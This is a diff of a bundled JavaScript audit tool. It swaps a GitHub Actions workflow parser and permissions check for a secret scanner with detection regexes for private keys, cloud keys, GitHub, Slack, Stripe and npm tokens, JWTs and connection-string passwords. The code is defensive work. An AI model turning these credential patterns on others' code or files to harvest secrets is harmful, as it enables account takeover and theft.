+;// CONCATENATED MODULE: ./lib/core/evaluators/secrets/generic.js
 
 /**
- * A typed model of GitHub Actions workflows (`.github/workflows/*.yml`) and local action metadata
- * (`action.yml` of a composite, Docker or JavaScript action). Every value keeps its JSON pointer and
- * exact source span, so an audit reports the line and column a user must change. Audits hook in
- * through {@link walkWorkflows} (workflow -> job -> step) rather than re-reading the YAML.
+ * Detectors for secrets that have no issuer prefix: passwords in connection strings and values
+ * assigned to secret-looking names. Both are located procedurally from a literal anchor (`://`, the
+ * name) with sticky, bounded patterns, so the work per line stays linear.
  */
-/** GitHub only loads workflows directly inside `.github/workflows/`, not from sub-directories. */
-const WORKFLOW_GLOBS = ['.github/workflows/*.yml', '.github/workflows/*.yaml'];
-/** Action metadata can live anywhere in a repository (`uses: ./path/to/action`). */
-const ACTION_GLOBS = ['**/action.yml', '**/action.yaml'];
+// ---------------------------------------------------------------------------------------------------
+// Connection strings: scheme://user:password@host
+const URL_CREDENTIALS = /([^\s:/?#@"'`<>[\]{}\\]{0,128}):([^\s/?#@"'`<>\\]{1,256})@([A-Za-z0-9._-]{1,253}|\[[0-9A-Fa-f:.]{2,45}\])/y;
+const SCHEME_CHAR = /[A-Za-z0-9+.-]/;
+/** Hosts that only the developer's own machine or documentation can reach. */
+const HARMLESS_HOST = /^(?:localhost|127\.\d{1,3}\.\d{1,3}\.\d{1,3}|0\.0\.0\.0|\[::1?\]|host\.docker\.internal)$|(?:^|\.)(?:example\.(?:com|org|net)|localhost|test|invalid|example|local)$/i;
+/** Passwords that documentation and local development setups use; they protect nothing real. */
+const DEFAULT_PASSWORDS = new Set([
+    'pass',
+    'password',
+    'passwd',
+    'pwd',
+    'secret',
+    'root',
+    'admin',
+    'guest',
+    'test',
+    'postgres',
+    'mysql',
+    'user',
+    'token',
+]);
 /**
- * The model of one workflow or action file, or undefined when it is not one (unreadable, broken
- * YAML — recorded by the workspace as an input problem — or not a mapping with `jobs`/`runs`).
- * Parsed once per run and shared by every rule.
+ * `://user:password@`, on lower-cased text: a URL with a password, not every URL. The user
+ * information is only looked ahead at, so a token inside it is still seen by its own detector.
  */
-function readWorkflowSource(workspace, file) {
-    return workspace.memo('workflow', file, () => {
-        const parsed = workspace.yaml(file);
-        // GitHub reads the first document only.
-        const doc = parsed?.ok ? parsed.documents[0] : undefined;
-        if (!doc)
-            return undefined;
-        return isWorkflowPath(file) ? buildWorkflow(file, doc) : buildAction(file, doc);
-    });
-}
-/** Every workflow, then every action metadata file, in index order. */
-function workflowSources(workspace) {
-    const files = [
-        ...workspace.glob(WORKFLOW_GLOBS),
-        ...workspace.glob(ACTION_GLOBS).filter((f) => !isWorkflowPath(f)),
-    ];
-    const out = [];
-    for (const f of files) {
-        const source = readWorkflowSource(workspace, f);
-        if (source)
-            out.push(source);
+const URL_CREDENTIALS_ANCHOR = String.raw `:\/\/(?=[^\s/?#@"'\x60<>[\]{}\\:]{0,128}:[^\s/?#@"'\x60<>\\]{1,256}@)`;
+/** Passwords in the user information of URLs and connection strings. */
+const connectionStringDetector = {
+    id: 'connection-string-password',
+    family: 'connection-string',
+    keywords: [],
+    anchor: URL_CREDENTIALS_ANCHOR,
+    identity: 'context',
+    describes: 'Passwords in URLs and connection strings (`scheme://user:password@host`), except interpolated, ' +
+        'placeholder and default passwords, passwords equal to the user name, and loopback or example hosts.',
+    find(line) {
+        const hits = [];
+        for (let at = line.indexOf('://'); at !== -1; at = line.indexOf('://', at + 3)) {
+            let s = at;
+            while (s > 0 && at - s < 32 && SCHEME_CHAR.test(line[s - 1]))
+                s -= 1;
+            const scheme = line.slice(s, at).toLowerCase();
+            if (!/^[a-z]/.test(scheme))
+                continue;
+            URL_CREDENTIALS.lastIndex = at + 3;
+            const m = URL_CREDENTIALS.exec(line);
+            if (!m)
+                continue;
+            const [, user = '', password = '', host = ''] = m;
+            if (HARMLESS_HOST.test(host) || password === user || DEFAULT_PASSWORDS.has(password.toLowerCase())) {
+                continue;
+            }
+            if (password.length < 4 || isPlaceholder(password) || /^[$%]/.test(password))
+                continue;
+            const start = at + 3 + user.length + 1;
+            hits.push({
+                start,
+                end: start + password.length,
+                value: password,
+                label: `password in a ${scheme} URL`,
+                context: `${scheme}://${user}@${host}`,
+            });
+        }
+        return hits;
+    },
+};
+// ---------------------------------------------------------------------------------------------------
+// Assignments to secret-looking names: password = "...", apiKey: '...', DB_PASSWORD=...
+/**
+ * A secret-looking name must END with one of these words (`db_password`, `clientSecret`, `x-api-key`),
+ * so `password_file`, `token_url` and `secretName` are not assignments of a secret.
+ */
+const generic_SECRET_NAME = /(?:passw(?:or)?d|passphrase|pwd|secret[_-]?key|secret|token|api[_-]?key|access[_-]?key|private[_-]?key|auth[_-]?key)(?![A-Za-z0-9_])/gi;
+const NAME_CHAR = /[A-Za-z0-9_.-]/;
+const ASSIGN = /["'`]?\]?[ \t]*(?:=>|:=|===?|!==?|[=:])[ \t]*/y;
+const QUOTED = /"([^"\\\r\n]{1,512})"|'([^'\\\r\n]{1,512})'|`([^`\\$\r\n]{1,512})`/y;
+const UNQUOTED = /([^\s"'`,;)\]}]{1,512})/y;
+/** Files whose `name: value` and `NAME=value` lines hold literal values, not expressions. */
+const CONFIG_FILE = /(?:^|\/)(?:\.env(?:\.[^/]*)?|[^/]*\.(?:env|ya?ml|toml|ini|cfg|conf|properties|tfvars|npmrc|netrc)|\.npmrc|\.pypirc|\.netrc|Dockerfile[^/]*)$/i;
+/**
+ * Source files of programming languages: a literal there is always quoted, so an unquoted value after
+ * `=` is an expression (`token = get_token()`, `token := r.Header.Get(...)`), never a secret.
+ */
+const CODE_FILE = /\.(?:[cm]?[jt]sx?|py|go|java|kt|kts|scala|groovy|rb|php|cs|fs|vb|rs|swift|m|mm|c|cc|cpp|h|hpp|dart|lua|ex|exs|erl|clj|r|jl|pl|pm)$/i;
+/** Values that name or fetch a secret rather than being one. */
+const REFERENCE = /^\$[A-Za-z_{(]|^%[A-Za-z_]\w*%$|^@\w+@$|^[&*][A-Za-z_][\w-]*$|^![A-Za-z]|\$\{|process\.env|os\.environ|getenv|secrets\.|vault:|^arn:|^ref\+|^sm:\/\/|^projects\/|:\/\//;
+/** An unquoted value with a call or a member access is an expression, not a literal. */
+const EXPRESSION = /\(|^[A-Za-z_$][\w$]*(?:\.[A-Za-z_$][\w$]*)+$/;
+/** Words and identifiers: a secret has digits, mixed case or symbols. */
+const WORDLIKE = /^(?:[a-z]+(?:[-_. ][a-z]+)*|[A-Z]+(?:[-_. ][A-Z]+)*|[a-z]+(?:[A-Z][a-z]+)+|(?:[A-Z][a-z]+)+)$/;
+const NUMBERLIKE = /^[0-9.,:_-]+$/;
+const PATHLIKE = /^(?:\/|\.{1,2}\/|~\/|[A-Za-z]:\\)/;
+/** Stripe test-mode and publishable keys: not secrets by the issuer's own definition. */
+const NOT_SECRET_KEY = /^(?:sk|rk|pk)_test_|^pk_live_/;
+/** A value that repeats the kind of thing it is ("my-secret", "password123") is a stand-in. */
+const SELF_NAMED = /secret|passw|token|api[_-]?key/i;
+/** Minimum length of a generic secret value; shorter strings are rarely credentials worth the noise. */
+const GENERIC_MIN_LENGTH = 8;
+/**
+ * True when a value assigned to a secret-looking name could be a real secret (before the entropy
+ * threshold, which the rule sets): long enough, mixing character classes, and not a reference,
+ * word, number, path or placeholder.
+ */
+function plausibleSecretValue(value, quoted = true) {
+    if (value.length < GENERIC_MIN_LENGTH || value.length > 256 || /\s/.test(value))
+        return false;
+    if (!quoted && EXPRESSION.test(value))
+        return false;
+    if (REFERENCE.test(value) || WORDLIKE.test(value) || NUMBERLIKE.test(value) || PATHLIKE.test(value)) {
+        return false;
     }
-    return out;
+    if (SELF_NAMED.test(value) || NOT_SECRET_KEY.test(value) || characterClasses(value) < 2)
+        return false;
+    return !isPlaceholder(value);
 }
-/** Visits workflows, their jobs and steps, and actions and their composite steps, in source order. */
-function walkWorkflows(sources, visitor) {
-    for (const source of sources) {
-        if (source.kind === 'workflow') {
-            visitor.workflow?.(source);
-            for (const job of source.jobs) {
-                visitor.job?.(job, source);
-                for (const step of job.steps)
-                    visitor.step?.(step, source, job);
+/**
+ * A secret-looking name followed by an assignment, on lower-cased text: the same test as
+ * {@link SECRET_NAME} and {@link ASSIGN}, so only lines that assign to such a name are looked at.
+ */
+const SECRET_ASSIGNMENT_ANCHOR = String.raw `(?:passw(?:or)?d|passphrase|pwd|secret[_-]?key|secret|token|api[_-]?key|access[_-]?key|private[_-]?key|auth[_-]?key)(?![a-z0-9_])["'\x60]?\]?[ \t]*(?:=>|:=|===?|!==?|[=:])`;
+/** Literal, random-looking values assigned to secret-looking names (the rule sets the entropy floor). */
+const genericAssignmentDetector = {
+    id: 'generic-secret-assignment',
+    family: 'generic',
+    keywords: [],
+    anchor: SECRET_ASSIGNMENT_ANCHOR,
+    identity: 'context',
+    describes: 'Literal values assigned to names that end in password, passphrase, secret, token, api_key, ' +
+        'access_key, private_key or auth_key, whose value is random enough (the entropy threshold is the ' +
+        "rule's `minEntropy`) and is not a placeholder, reference, word, number or path.",
+    find(line, ctx) {
+        const hits = [];
+        const configFile = CONFIG_FILE.test(ctx.path);
+        const codeFile = !configFile && CODE_FILE.test(ctx.path);
+        generic_SECRET_NAME.lastIndex = 0;
+        for (let m = generic_SECRET_NAME.exec(line); m; m = generic_SECRET_NAME.exec(line)) {
+            const end = m.index + m[0].length;
+            let start = m.index;
+            while (start > 0 && m.index - start < 64 && NAME_CHAR.test(line[start - 1]))
+                start -= 1;
+            ASSIGN.lastIndex = end;
+            const assign = ASSIGN.exec(line);
+            if (!assign || !/[=:]/.test(assign[0]))
+                continue;
+            const valueAt = end + assign[0].length;
+            QUOTED.lastIndex = valueAt;
+            const quoted = QUOTED.exec(line);
+            let value;
+            let valueStart = valueAt;
+            if (quoted) {
+                value = quoted[1] ?? quoted[2] ?? quoted[3];
+                valueStart += 1;
+            }
+            else if (!codeFile &&
+                (configFile || isConfigStyle(line, start) || line.slice(start - 2, start) === '--')) {
+                UNQUOTED.lastIndex = valueAt;
+                value = UNQUOTED.exec(line)?.[1];
+            }
+            if (value === undefined || !plausibleSecretValue(value, quoted !== null))
+                continue;
+            hits.push({
+                start: valueStart,
+                end: valueStart + value.length,
+                value,
+                label: 'secret',
+                context: line.slice(start, end).replace(/^[-.]+/, ''),
+                entropy: shannonEntropy(value),
+            });
+        }
+        return hits;
+    },
+};
+/** `NAME=value`, `export NAME=value`, `name: value` and `- name: value` at the start of a line. */
+function isConfigStyle(line, nameStart) {
+    return /^[ \t]*(?:export[ \t]+|-[ \t]+)?["']?$/.test(line.slice(0, nameStart));
+}
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/secrets/detectors.js
+
+
+function tokenDetector(spec) {
+    return {
+        id: spec.id,
+        family: spec.family,
+        keywords: spec.keywords,
+        identity: 'value',
+        describes: spec.describes,
+        find(line, ctx) {
+            const hits = [];
+            spec.pattern.lastIndex = 0;
+            for (let m = spec.pattern.exec(line); m; m = spec.pattern.exec(line)) {
+                const value = m[1] ?? m[0];
+                const start = m.index + m[0].indexOf(value);
+                const body = value.slice(spec.prefix);
+                if (isPlaceholder(body) || shannonEntropy(body) < (spec.minEntropy ?? 3))
+                    continue;
+                if (spec.accept && !spec.accept(value, ctx))
+                    continue;
+                const label = typeof spec.label === 'string' ? spec.label : spec.label(value);
+                hits.push({ start, end: start + value.length, value, label });
+            }
+            return hits;
+        },
+    };
+}
+const GITHUB_KINDS = {
+    ghp: 'GitHub personal access token (classic)',
+    gho: 'GitHub OAuth access token',
+    ghu: 'GitHub App user access token',
+    ghs: 'GitHub App installation token',
+    ghr: 'GitHub refresh token',
+};
+/** Decodes one base64url JWT segment as a JSON object, or undefined. */
+function jwtPart(segment) {
+    try {
+        const value = JSON.parse(Buffer.from(segment, 'base64url').toString('utf8'));
+        return value && typeof value === 'object' && !Array.isArray(value)
+            ? value
+            : undefined;
+    }
+    catch {
+        return undefined;
+    }
+}
+/** Private key armour headers, as in the original `private-key-committed` content rule. */
+const PRIVATE_KEY_HEADERS = [
+    [
+        /-----BEGIN OPENSSH PRIVATE KEY-----(?=[ \t]*$|(?:\\r)?\\n|[ \t]*[A-Za-z0-9+/]{8})/g,
+        'OpenSSH private key',
+    ],
+    [/-----BEGIN PGP PRIVATE KEY BLOCK-----(?=[ \t]*$|(?:\\r)?\\n)/g, 'PGP private key block'],
+    [
+        /-----BEGIN (?!OPENSSH )(?:[A-Z0-9]{1,20} ){0,2}PRIVATE KEY-----(?=[ \t]*$|(?:\\r)?\\n|[ \t]*[A-Za-z0-9+/]{8})/g,
+        'PEM private key',
+    ],
+    [/---- BEGIN SSH2 ENCRYPTED PRIVATE KEY ----(?=[ \t]*$|(?:\\r)?\\n)/g, 'SSH2 private key'],
+    [/^PuTTY-User-Key-File-[0-9]{1,2}: /g, 'PuTTY private key'],
+];
+/** A GCP service-account key file: JSON with `"type": "service_account"` and a `private_key`. */
+const GCP_PRIVATE_KEY = /"private_key"[ \t]*:[ \t]*"(-----BEGIN [A-Z ]{0,24}PRIVATE KEY-----[^"]{16,10000})"/g;
+const privateKey = {
+    id: 'private-key',
+    family: 'private-key',
+    keywords: ['-----begin ', '---- begin ssh2', 'putty-user-key-file-'],
+    identity: 'position',
+    describes: 'PEM (PKCS#1, PKCS#8, SEC1, DSA), OpenSSH, PGP, SSH2 and PuTTY private keys, by their armour header ' +
+        'where key material follows (a quoted header constant in a parser is not a key).',
+    find(line) {
+        const hits = [];
+        for (const [re, label] of PRIVATE_KEY_HEADERS) {
+            re.lastIndex = 0;
+            for (let m = re.exec(line); m; m = re.exec(line)) {
+                hits.push({ start: m.index, end: m.index + m[0].length, value: m[0], label, context: m[0] });
+                if (m[0].length === 0)
+                    break;
             }
         }
-        else {
-            visitor.action?.(source);
-            for (const step of source.steps)
-                visitor.step?.(step, source, undefined);
-        }
+        return hits;
+    },
+};
+/** The detectors that recognise a token by its issuer's fixed prefix or structure. */
+const TOKENS = [
+    tokenDetector({
+        id: 'aws-access-key-id',
+        family: 'cloud',
+        keywords: ['akia', 'asia', 'abia', 'acca'],
+        pattern: /(?<![A-Za-z0-9])((?:AKIA|ASIA|ABIA|ACCA)[A-Z2-7]{16})(?![A-Za-z0-9])/g,
+        prefix: 4,
+        minEntropy: 2.5,
+        label: (v) => (v.startsWith('ASIA') ? 'AWS temporary access key ID' : 'AWS access key ID'),
+        describes: 'AWS access key IDs (AKIA, ASIA, ABIA, ACCA).',
+    }),
+    tokenDetector({
+        id: 'gcp-service-account-key',
+        family: 'cloud',
+        // The value starts with the PEM header, which is the rarer literal of the line.
+        keywords: ['-----begin '],
+        pattern: GCP_PRIVATE_KEY,
+        prefix: 0,
+        label: 'GCP service account private key',
+        describes: 'The `private_key` of a Google Cloud service-account key file (JSON with "type": "service_account").',
+        accept: (_v, ctx) => /"type"[ \t]*:[ \t]*"service_account"/.test(ctx.text),
+    }),
+    tokenDetector({
+        id: 'azure-storage-key',
+        family: 'cloud',
+        keywords: ['accountkey=', 'sharedaccesskey='],
+        pattern: /(?<![A-Za-z0-9])(?:AccountKey|SharedAccessKey)=([A-Za-z0-9+/]{40,100}={0,2})(?![A-Za-z0-9+/=])/gi,
+        prefix: 0,
+        minEntropy: 4,
+        label: 'Azure storage or shared access key',
+        describes: 'Azure Storage account keys and Service Bus / Event Hubs shared access keys in connection strings ' +
+            '(`AccountKey=`, `SharedAccessKey=`); the public storage-emulator key is not reported.',
+    }),
+    tokenDetector({
+        id: 'github-token',
+        family: 'token',
+        keywords: ['ghp_', 'gho_', 'ghu_', 'ghs_', 'ghr_'],
+        pattern: /(?<![A-Za-z0-9_])(gh[pousr]_[A-Za-z0-9]{36,251})(?![A-Za-z0-9_])/g,
+        prefix: 4,
+        label: (v) => GITHUB_KINDS[v.slice(0, 3)] ?? 'GitHub token',
+        describes: 'GitHub tokens: ghp_ (classic PAT), gho_, ghu_, ghs_, ghr_.',
+    }),
+    tokenDetector({
+        id: 'github-fine-grained-token',
+        family: 'token',
+        keywords: ['github_pat_'],
+        pattern: /(?<![A-Za-z0-9_])(github_pat_[A-Za-z0-9]{22}_[A-Za-z0-9]{59})(?![A-Za-z0-9_])/g,
+        prefix: 11,
+        label: 'GitHub fine-grained personal access token',
+        describes: 'GitHub fine-grained personal access tokens (github_pat_).',
+    }),
+    tokenDetector({
+        id: 'gitlab-token',
+        family: 'token',
+        keywords: ['glpat-'],
+        pattern: /(?<![A-Za-z0-9_-])(glpat-[A-Za-z0-9_-]{20,100})(?![A-Za-z0-9_-])/g,
+        prefix: 6,
+        label: 'GitLab personal access token',
+        describes: 'GitLab personal access tokens (glpat-).',
+    }),
+    tokenDetector({
+        id: 'slack-token',
+        family: 'token',
+        keywords: ['xoxb-', 'xoxa-', 'xoxp-', 'xoxr-', 'xoxs-'],
+        pattern: /(?<![A-Za-z0-9_-])(xox[abprs]-[0-9]{6,16}-[A-Za-z0-9-]{8,200})(?![A-Za-z0-9_-])/g,
+        prefix: 5,
+        label: 'Slack token',
+        describes: 'Slack bot, user, app, refresh and legacy tokens (xoxb-, xoxp-, xoxa-, xoxr-, xoxs-).',
+    }),
+    tokenDetector({
+        id: 'slack-webhook',
+        family: 'token',
+        keywords: ['hooks.slack.com/'],
+        pattern: /https:\/\/hooks\.slack\.com\/(?:services|workflows|triggers)\/([A-Za-z0-9]{6,16}\/[A-Za-z0-9]{6,16}\/[A-Za-z0-9]{16,64})(?![A-Za-z0-9])/g,
+        prefix: 0,
+        label: 'Slack incoming webhook URL',
+        describes: 'Slack incoming webhook and workflow trigger URLs (hooks.slack.com/services/...).',
+    }),
+    tokenDetector({
+        id: 'stripe-live-key',
+        family: 'token',
+        keywords: ['sk_live_', 'rk_live_'],
+        pattern: /(?<![A-Za-z0-9_])((?:sk|rk)_live_[A-Za-z0-9]{20,247})(?![A-Za-z0-9_])/g,
+        prefix: 8,
+        label: (v) => (v.startsWith('rk') ? 'Stripe live restricted key' : 'Stripe live secret key'),
+        describes: 'Stripe live secret and restricted keys (sk_live_, rk_live_); test-mode keys are not secrets.',
+    }),
+    tokenDetector({
+        id: 'npm-token',
+        family: 'token',
+        keywords: ['npm_'],
+        pattern: /(?<![A-Za-z0-9_])(npm_[A-Za-z0-9]{36})(?![A-Za-z0-9_])/g,
+        prefix: 4,
+        label: 'npm access token',
+        describes: 'npm access tokens (npm_).',
+    }),
+    tokenDetector({
+        id: 'jwt',
+        family: 'jwt',
+        keywords: ['eyj'],
+        pattern: /(?<![A-Za-z0-9_-])(eyJ[A-Za-z0-9_-]{8,2000}\.eyJ[A-Za-z0-9_-]{8,8000}\.[A-Za-z0-9_-]{16,2000})(?![A-Za-z0-9_-])/g,
+        prefix: 0,
+        label: 'JSON Web Token',
+        describes: 'Signed JSON Web Tokens whose header and payload decode to JSON objects (header with `alg`).',
+        accept: (value) => {
+            const [header, payload] = value.split('.');
+            const h = jwtPart(header ?? '');
+            const p = jwtPart(payload ?? '');
+            if (!h || !p || typeof h.alg !== 'string' || h.alg.toLowerCase() === 'none')
+                return false;
+            // jwt.io's demonstration token, reproduced in countless tutorials.
+            return !(p.sub === '1234567890' && p.name === 'John Doe');
+        },
+    }),
+];
+/** AWS secret access keys: 40 base64 characters, named as such or next to an access key ID. */
+const AWS_SECRET_KEY = /(?<![A-Za-z0-9/+=])([A-Za-z0-9/+]{40})(?![A-Za-z0-9/+=])/g;
+const AWS_SECRET_NAME = /secret_?access_?key|aws_?secret|secretkey/i;
+/** True when a 40-character candidate looks like a random AWS secret access key. */
+function looksLikeAwsSecret(value) {
+    return characterClasses(value) >= 3 && shannonEntropy(value) >= 4 && !isPlaceholder(value);
+}
+const awsSecretKey = {
+    id: 'aws-secret-access-key',
+    family: 'cloud',
+    // Named AWS secrets are assignments to a secret-looking name: the generic anchor finds the lines.
+    keywords: [],
+    anchor: SECRET_ASSIGNMENT_ANCHOR,
+    identity: 'value',
+    describes: 'AWS secret access keys: 40 random base64 characters assigned to a name such as ' +
+        '`aws_secret_access_key`, or within three lines of an AWS access key ID.',
+    find(line) {
+        if (!AWS_SECRET_NAME.test(line))
+            return [];
+        return findAwsSecrets(line);
+    },
+};
+/** Every AWS-secret-shaped value on a line (the scanner also calls this near access key IDs). */
+function findAwsSecrets(line) {
+    const hits = [];
+    AWS_SECRET_KEY.lastIndex = 0;
+    for (let m = AWS_SECRET_KEY.exec(line); m; m = AWS_SECRET_KEY.exec(line)) {
+        if (!looksLikeAwsSecret(m[1]))
+            continue;
+        hits.push({ start: m.index, end: m.index + 40, value: m[1], label: 'AWS secret access key' });
     }
+    return hits;
 }
-/** Whether a path is a workflow (as opposed to action metadata). */
-function isWorkflowPath(file) {
-    return /^\.github\/workflows\/[^/]+\.ya?ml$/.test(file);
-}
-/** Builds the model of a workflow document; undefined unless it is a mapping with a `jobs` mapping. */
-function buildWorkflow(path, document) {
-    const r = new Reader(document);
-    const root = r.node('', document.value);
-    if (!isMap(root.value) || !isMap(root.value.jobs))
-        return undefined;
-    const jobsNode = r.child(root, 'jobs');
-    const workflow = {
-        kind: 'workflow',
-        path,
-        document,
-        jobsNode,
-        jobs: Object.keys(jobsNode.value).flatMap((id) => {
-            const job = r.child(jobsNode, id);
-            return isMap(job.value) ? [readJob(r, id, job)] : [];
-        }),
-    };
-    workflow_assign(workflow, 'name', r.optional(root, 'name'));
-    const on = r.optional(root, 'on');
-    if (on)
-        workflow.on = readTriggers(r, on);
-    const permissions = r.optional(root, 'permissions');
-    if (permissions)
-        workflow.permissions = readPermissions(r, permissions);
-    workflow_assign(workflow, 'env', r.map(root, 'env'));
-    return workflow;
-}
-/** Builds the model of an action metadata document; undefined unless it has a `runs` mapping. */
-function buildAction(path, document) {
-    const r = new Reader(document);
-    const root = r.node('', document.value);
-    if (!isMap(root.value) || !isMap(root.value.runs))
-        return undefined;
-    const runs = r.child(root, 'runs');
-    const action = { kind: 'action', path, document, runs, steps: readSteps(r, runs) };
-    workflow_assign(action, 'name', r.optional(root, 'name'));
-    workflow_assign(action, 'using', r.optional(runs, 'using'));
-    workflow_assign(action, 'image', r.string(runs, 'image'));
-    return action;
-}
-function readJob(r, id, node) {
-    const job = { ...node, id, services: [], steps: readSteps(r, node) };
-    workflow_assign(job, 'name', r.optional(node, 'name'));
-    workflow_assign(job, 'if', r.optional(node, 'if'));
-    workflow_assign(job, 'uses', r.string(node, 'uses'));
-    workflow_assign(job, 'with', r.map(node, 'with'));
-    workflow_assign(job, 'secrets', r.optional(node, 'secrets'));
-    workflow_assign(job, 'runsOn', r.optional(node, 'runs-on'));
-    workflow_assign(job, 'env', r.map(node, 'env'));
-    const container = r.optional(node, 'container');
-    if (container)
-        job.container = readContainer(r, container);
-    const services = r.optional(node, 'services');
-    if (services && isMap(services.value)) {
-        for (const sid of Object.keys(services.value)) {
-            job.services.push({ ...readContainer(r, r.child(services, sid)), id: sid });
-        }
-    }
-    const permissions = r.optional(node, 'permissions');
-    if (permissions)
-        job.permissions = readPermissions(r, permissions);
-    return job;
-}
-function readSteps(r, parent) {
-    const list = r.optional(parent, 'steps');
-    if (!list || !Array.isArray(list.value))
-        return [];
-    const steps = [];
-    list.value.forEach((value, index) => {
-        const node = r.child(list, index);
-        if (!isMap(value))
-            return;
-        const step = { ...node, index };
-        workflow_assign(step, 'id', r.optional(node, 'id'));
-        workflow_assign(step, 'name', r.optional(node, 'name'));
-        workflow_assign(step, 'if', r.optional(node, 'if'));
-        workflow_assign(step, 'uses', r.string(node, 'uses'));
-        workflow_assign(step, 'run', r.string(node, 'run'));
-        workflow_assign(step, 'shell', r.optional(node, 'shell'));
-        workflow_assign(step, 'with', r.map(node, 'with'));
-        workflow_assign(step, 'env', r.map(node, 'env'));
-        steps.push(step);
-    });
-    return steps;
-}
-function readTriggers(r, on) {
-    const v = on.value;
-    if (typeof v === 'string')
-        return { ...on, form: 'string', events: [{ event: v, span: on.span }] };
-    if (Array.isArray(v)) {
-        const events = v.flatMap((item, i) => typeof item === 'string' ? [{ event: item, span: r.child(on, i).span }] : []);
-        return { ...on, form: 'list', events };
-    }
-    if (isMap(v)) {
-        const events = Object.keys(v).map((event) => {
-            const config = r.child(on, event);
-            return { event, span: keySpan(config.span, event), config };
-        });
-        return { ...on, form: 'map', events };
-    }
-    return { ...on, form: 'invalid', events: [] };
-}
-function readPermissions(r, node) {
-    const out = { ...node, scopes: [] };
-    if (typeof node.value === 'string')
-        out.shorthand = node;
-    else if (isMap(node.value)) {
-        for (const scope of Object.keys(node.value))
-            out.scopes.push({ scope, level: r.child(node, scope) });
-    }
-    return out;
-}
-function readContainer(r, node) {
-    const spec = { ...node };
-    if (typeof node.value === 'string')
-        spec.image = node;
-    else
-        workflow_assign(spec, 'image', r.string(node, 'image'));
-    return spec;
-}
-/** The span of a mapping key, as a span of its own (for findings that point at the key). */
-function keySpan(valueSpan, key) {
-    const at = valueSpan.key ?? valueSpan.start;
-    return { start: at, end: { line: at.line, column: at.column + Math.max(0, key.length - 1) } };
-}
-/** Creates located nodes; spans come from the document's pointer index (never re-parsing). */
-class Reader {
-    doc;
-    constructor(doc) {
-        this.doc = doc;
-    }
-    node(pointer, value) {
-        // A value that only exists through an alias or merge has no span of its own: use the nearest one.
-        const span = this.doc.span(pointer) ?? this.doc.nearestSpan(pointer) ?? ORIGIN;
-        return { value, pointer, span };
-    }
-    child(parent, token) {
-        const value = parent.value[token];
-        return this.node(`${parent.pointer}/${escapePointerToken(token)}`, value);
-    }
-    /** The child when the parent is a mapping that has the key. */
-    optional(parent, key) {
-        return isMap(parent.value) && Object.hasOwn(parent.value, key) ? this.child(parent, key) : undefined;
-    }
-    /** The child when it is a string (GitHub rejects other types for these keys). */
-    string(parent, key) {
-        const node = this.optional(parent, key);
-        return node && typeof node.value === 'string' ? node : undefined;
-    }
-    map(parent, key) {
-        const node = this.optional(parent, key);
-        if (!node)
-            return undefined;
-        const entries = new Map();
-        if (isMap(node.value))
-            for (const k of Object.keys(node.value))
-                entries.set(k, this.child(node, k));
-        return { ...node, entries };
-    }
-}
-const ORIGIN = { start: { line: 1, column: 1 }, end: { line: 1, column: 1 } };
-function isMap(value) {
-    return typeof value === 'object' && value !== null && !Array.isArray(value);
-}
-/** Sets an optional property only when there is a value (keeps the model free of `undefined` keys). */
-function workflow_assign(target, key, value) {
-    if (value !== undefined)
-        target[key] = value;
+/** Every detector, in family priority order. */
+const DETECTORS = [
+    privateKey,
+    ...TOKENS.filter((d) => d.family === 'cloud'),
+    awsSecretKey,
+    ...TOKENS.filter((d) => d.family !== 'cloud'),
+    connectionStringDetector,
+    genericAssignmentDetector,
+];
+/** Detector ids, for option schemas. */
+const DETECTOR_IDS = DETECTORS.map((d) => d.id);
+const BY_ID = new Map(DETECTORS.map((d) => [d.id, d]));
+/** The detector with this id, or undefined. */
+function getDetector(id) {
+    return BY_ID.get(id);
 }
 
-;// CONCATENATED MODULE: ./lib/core/evaluators/workflow/permissions.js
+;// CONCATENATED MODULE: ./lib/core/evaluators/secrets/types.js
+/**
+ * Shared shapes of the secret scanner. A detector recognises one kind of secret on one line; the
+ * scanner (scan.ts) decides which lines a detector sees, and the evaluator (evaluator.ts) turns hits
+ * into findings that never carry the value.
+ */
+/**
+ * Families in priority order: when two hits overlap on a line, the earlier family keeps it. Cloud
+ * comes first so that a service-account key file is reported as such, not as a bare PEM key.
+ */
+const FAMILY_PRIORITY = [
+    'cloud',
+    'private-key',
+    'token',
+    'jwt',
+    'connection-string',
+    'generic',
+];
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/secrets/scan.js
+
 
 
 
 /**
- * Least privilege for the `GITHUB_TOKEN`:
- * - a workflow without top-level `permissions:` in which some job declares none either runs those
- *   jobs with the repository's default token permissions, which may be read/write on every scope.
- *   The finding is placed on the `jobs:` key, the line above which the top-level block belongs
- *   (one finding per workflow, naming the jobs, rather than one per job);
- * - `permissions: write-all`, at workflow or job level, is reported at that value.
- * Any explicit declaration other than `write-all` (`{}`, `read-all`, a scope map) passes here; a
- * workflow triggered only by `workflow_call` is exempt from the first check, because a called
- * workflow can never hold more than its caller grants.
+ * The secret scanner: one pass per file for every detector, shared by every secret rule through the
+ * workspace memo. A single regex of all detectors' keywords and anchors walks the lower-cased file
+ * text; only lines that contain one are split out and shown to the detectors it belongs to. Most
+ * lines contain none and cost one step of one regex scan. Lines are capped at
+ * {@link MAX_LINE_CHARS} as in the content rules.
  */
-const workflowPermissions = defineEvaluator({
-    kind: 'workflow.permissions',
-    summary: 'Workflows that leave GITHUB_TOKEN permissions at the repository default, or grant write-all.',
-    schema: { type: 'object', additionalProperties: false, properties: {} },
-    evaluate({ workspace }) {
+/** Lines around an AWS access key ID that are searched for its secret access key. */
+const AWS_PAIR_WINDOW = 3;
+let prefilter;
+const escapeRegex = (k) => k.replace(/[.*+?^${}()|[\]\\/-]/g, '\\$&');
+/**
+ * One regular expression for all detectors: their literal keywords as a trie (so the engine tests
+ * one character and moves on), then each distinct anchor as a capture group.
+ */
+function buildPrefilter() {
+    const byKeyword = new Map();
+    const anchors = new Map();
+    for (const d of DETECTORS) {
+        for (const k of d.keywords)
+            byKeyword.set(k, [...(byKeyword.get(k) ?? []), d]);
+        if (d.anchor)
+            anchors.set(d.anchor, [...(anchors.get(d.anchor) ?? []), d]);
+    }
+    const parts = [trie([...byKeyword.keys()]), ...[...anchors.keys()].map((a) => `(${a})`)];
+    const source = parts.filter(Boolean).join('|');
+    return {
+        lower: new RegExp(source, 'g'),
+        ignoreCase: new RegExp(source, 'gi'),
+        byKeyword,
+        byGroup: [...anchors.values()],
+    };
+}
+/** `(?:a(?:kia|sia)|gh(?:p_|s_))`: a trie of literals as a regular expression source. */
+function trie(words) {
+    const root = { next: new Map() };
